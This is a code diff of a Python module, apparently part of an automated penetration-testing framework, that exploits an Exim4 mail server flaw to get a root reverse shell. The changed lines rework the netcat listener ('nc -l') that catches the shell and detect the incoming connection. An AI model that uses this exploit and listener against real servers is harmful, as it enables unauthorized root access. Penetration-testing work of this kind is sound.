@@ -39,6 +39,9 @@ class Exim4ROTW(Module):
     Here the exploit is used to execute a command as root, which returns a root remote shell to pinaht.
     """
 
+    # the spawned shell is stored in self.catch_shell
+    concurrent = False
+
     def __init__(self, manager, file_manager: FileManager, **kwargs):
         super(Exim4ROTW, self).__init__(manager, **kwargs)
 
@@ -147,12 +150,12 @@ class Exim4ROTW(Module):
                 buffered_module_manager.report(
                     f"Started a new shell. Listening for connection on \\code{{{target_adress}}}."
                 )
-                catchout = "\n".join(
-                    self.catch_shell.execute(
-                        "nc -l -n " + host_ip + " " + str(catch_port) + " -vvv", timeout=20, new_shell=True
-                    )
+                # stops reading the listeners output at the received connection
+                catchout = self.catch_shell.execute_stream(
+                    "nc -l -n " + host_ip + " " + str(catch_port) + " -vvv", timeout=20, new_shell=True
                 )
-                if re.compile(r"Connection.*received").search(catchout):
+                connection_received = re.compile(r"Connection.*received")
+                if any(connection_received.search(line) for line in catchout):
                     self._logger.info("Catched reverse Shell. Shell ready to use.")
                 else:
                     self._logger.error("Cannot catch reverse shell, connection refused. ")